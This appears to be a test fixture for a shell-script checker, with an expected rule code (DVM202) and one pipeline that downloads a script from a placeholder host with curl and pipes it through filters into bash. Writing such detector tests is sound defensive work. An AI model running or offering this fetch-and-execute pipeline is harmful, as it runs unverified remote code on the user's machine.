# expect: DVM202
(curl -s https://x.example.org/a) | tr -d '\r' | sed 's/x/y/' | tee log | bash -x
